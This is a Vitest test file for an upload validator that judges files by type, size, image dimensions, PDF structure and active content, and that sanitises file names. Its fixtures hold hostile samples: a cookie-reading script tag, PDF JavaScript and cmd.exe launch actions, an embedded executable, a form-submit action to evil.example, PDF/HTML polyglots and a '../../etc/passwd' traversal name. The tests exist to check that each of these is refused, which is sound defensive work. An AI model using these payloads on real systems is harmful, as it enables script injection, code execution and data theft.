// shared/files.ts: files are judged by their content and size (customer-information.md §5, §9), images
// by their dimensions and PDFs by their structure too.
import { describe, expect, it } from 'vitest';
import { contentDisposition, judgeFile, MAX_FILE_BYTES, MAX_IMAGE_PIXELS, safeFileName } from '../../shared/files.ts';
import {
  jpegWithoutFrame,
  pdfHtmlPolyglot,
  pdfOfSize,
  pdfWithHtmlComment,
  pdfWith,
  pdfWithoutPages,
  pngWithDimensions,
  pngWithTextAfter,
  sampleJpeg,
  samplePdf,
  samplePng,
} from '../support/files.ts';

describe('judgeFile', () => {
  it.each([
    ['a real PDF', samplePdf(), { ok: true, contentType: 'application/pdf' }],
    ['a PNG (whatever it is called)', samplePng(), { ok: true, contentType: 'image/png' }],
    ['a JPEG', sampleJpeg(), { ok: true, contentType: 'image/jpeg' }],
    ['a text file renamed .pdf', Buffer.from('Just some text, not a PDF at all.\n'), { ok: false, problem: 'type' }],
    ['a GIF', Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'), { ok: false, problem: 'type' }],
    ['a ZIP', Buffer.from('504b0304140000000000', 'hex'), { ok: false, problem: 'type' }],
    ['an empty file', Buffer.alloc(0), { ok: false, problem: 'empty' }],
    ['exactly 3,145,728 bytes', pdfOfSize(MAX_FILE_BYTES), { ok: true, contentType: 'application/pdf' }],
    ['3,145,729 bytes', pdfOfSize(MAX_FILE_BYTES + 1), { ok: false, problem: 'size' }],
    // Magic bytes are not enough: dimensions, structure, no HTML inside.
    ['a 20000 × 20000 PNG (400 megapixels)', pngWithDimensions(20_000, 20_000), { ok: false, problem: 'pixels' }],
    ['a PNG of exactly 40 megapixels (A4 at 600 dpi fits)', pngWithDimensions(8_000, MAX_IMAGE_PIXELS / 8_000), { ok: true, contentType: 'image/png' }],
    ['a PNG one pixel row over 40 megapixels', pngWithDimensions(8_000, MAX_IMAGE_PIXELS / 8_000 + 1), { ok: false, problem: 'pixels' }],
    ['a PNG that says 0 × 0', pngWithDimensions(0, 0), { ok: false, problem: 'damaged' }],
    ['a PNG cut off inside its header', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), { ok: false, problem: 'damaged' }],
    ['JPEG magic bytes without a frame', jpegWithoutFrame(), { ok: false, problem: 'damaged' }],
    ['a PDF/HTML polyglot (%PDF- then a web page)', pdfHtmlPolyglot(), { ok: false, problem: 'activeContent' }],
    ['a valid PDF with a web page in a comment', pdfWithHtmlComment(), { ok: false, problem: 'activeContent' }],
    ['%PDF- and nothing else', Buffer.from('%PDF-1.7\n%%EOF\n'), { ok: false, problem: 'damaged' }],
    ['a PDF without pages', pdfWithoutPages(), { ok: false, problem: 'damaged' }],
  ])('%s', async (_name, bytes, verdict) => {
    expect(await judgeFile(bytes)).toEqual(verdict);
  });

  it('counts the real size when the bytes were cut at the limit', async () => {
    expect(await judgeFile(samplePdf(), MAX_FILE_BYTES + 1)).toEqual({ ok: false, problem: 'size' });
  });
});

describe('judgeFile refuses active content', () => {
  const activeContent = { ok: false, problem: 'activeContent' };
  const pdf = { ok: true, contentType: 'application/pdf' };
  const script = '<script>alert(document.cookie)</script>';
  it.each([
    ['an OpenAction running JavaScript', pdfWith({ catalog: '/OpenAction 5 0 R', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }), activeContent],
    ['an OpenAction launching a program, inline', pdfWith({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), activeContent],
    [
      'a document-level JavaScript name tree',
      pdfWith({ catalog: '/Names << /JavaScript 5 0 R >>', objects: ['<< /Names [(init) 6 0 R] >>', '<< /S /JavaScript /JS (this.print()) >>'] }),
      activeContent,
    ],
    ['JavaScript named with #xx escapes (/J#61vaScript)', pdfWith({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' }), activeContent],
    [
      'an embedded file',
      pdfWith({
        catalog: '/Names << /EmbeddedFiles 5 0 R >>',
        objects: [
          '<< /Names [(a.exe) 6 0 R] >>',
          '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
        ],
      }),
      activeContent,
    ],
    ['a page whose opening (/AA) submits a form', pdfWith({ catalog: '/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>' }), activeContent],
    ['an OpenAction that only opens the first page', pdfWith({ catalog: '/OpenAction [3 0 R /Fit]' }), pdf],
    ['a link to a web address (URI action)', pdfWith({ catalog: '/OpenAction << /S /URI /URI (https://www.example.se) >>' }), pdf],
    ['a PDF with a script in a comment after its first 2 KB', pdfWith({ objects: [`<< /Length 0 >>\n%${' '.repeat(2048)}${script}`] }), activeContent],
    ['a PNG with a script in a text chunk after its first 2 KB', pngWithTextAfter(2048, script), activeContent],
    ['a PNG with harmless text after 2 KB', pngWithTextAfter(2048, 'Scanned 2026-11-24, 1 < 2'), { ok: true, contentType: 'image/png' }],
  ])('%s', async (_name, bytes, verdict) => {
    expect(await judgeFile(bytes)).toEqual(verdict);
  });

  it('a clean PDF of the largest size is accepted (the whole file is read for markup)', async () => {
    expect(await judgeFile(pdfOfSize(MAX_FILE_BYTES))).toEqual({ ok: true, contentType: 'application/pdf' });
  });
});

describe('safeFileName and contentDisposition', () => {
  it.each([
    ['passport.pdf', 'application/pdf', 'passport.pdf'],
    ['C:\\Users\\me\\pass port.PDF', 'application/pdf', 'pass port.pdf'],
    ['../../etc/passwd', 'application/pdf', 'passwd.pdf'],
    ['scan.pdf', 'image/png', 'scan.png'],
    ['Åsa "id".jpeg', 'image/jpeg', 'Asa _id_.jpg'],
    ['.pdf', 'application/pdf', 'file.pdf'],
    ['a\r\nb.png', 'image/png', 'a__b.png'],
  ] as const)('%s as %s → %s', (original, type, expected) => {
    expect(safeFileName(original, type)).toBe(expected);
  });

  // The spec says inline; served as an attachment, a stored file is saved, never shown as a page.
  it('quotes the name, as an attachment', () => {
    expect(contentDisposition('pass port.pdf')).toBe('attachment; filename="pass port.pdf"');
    expect(contentDisposition('a"b.pdf')).toBe('attachment; filename="a_b.pdf"');
  });
});
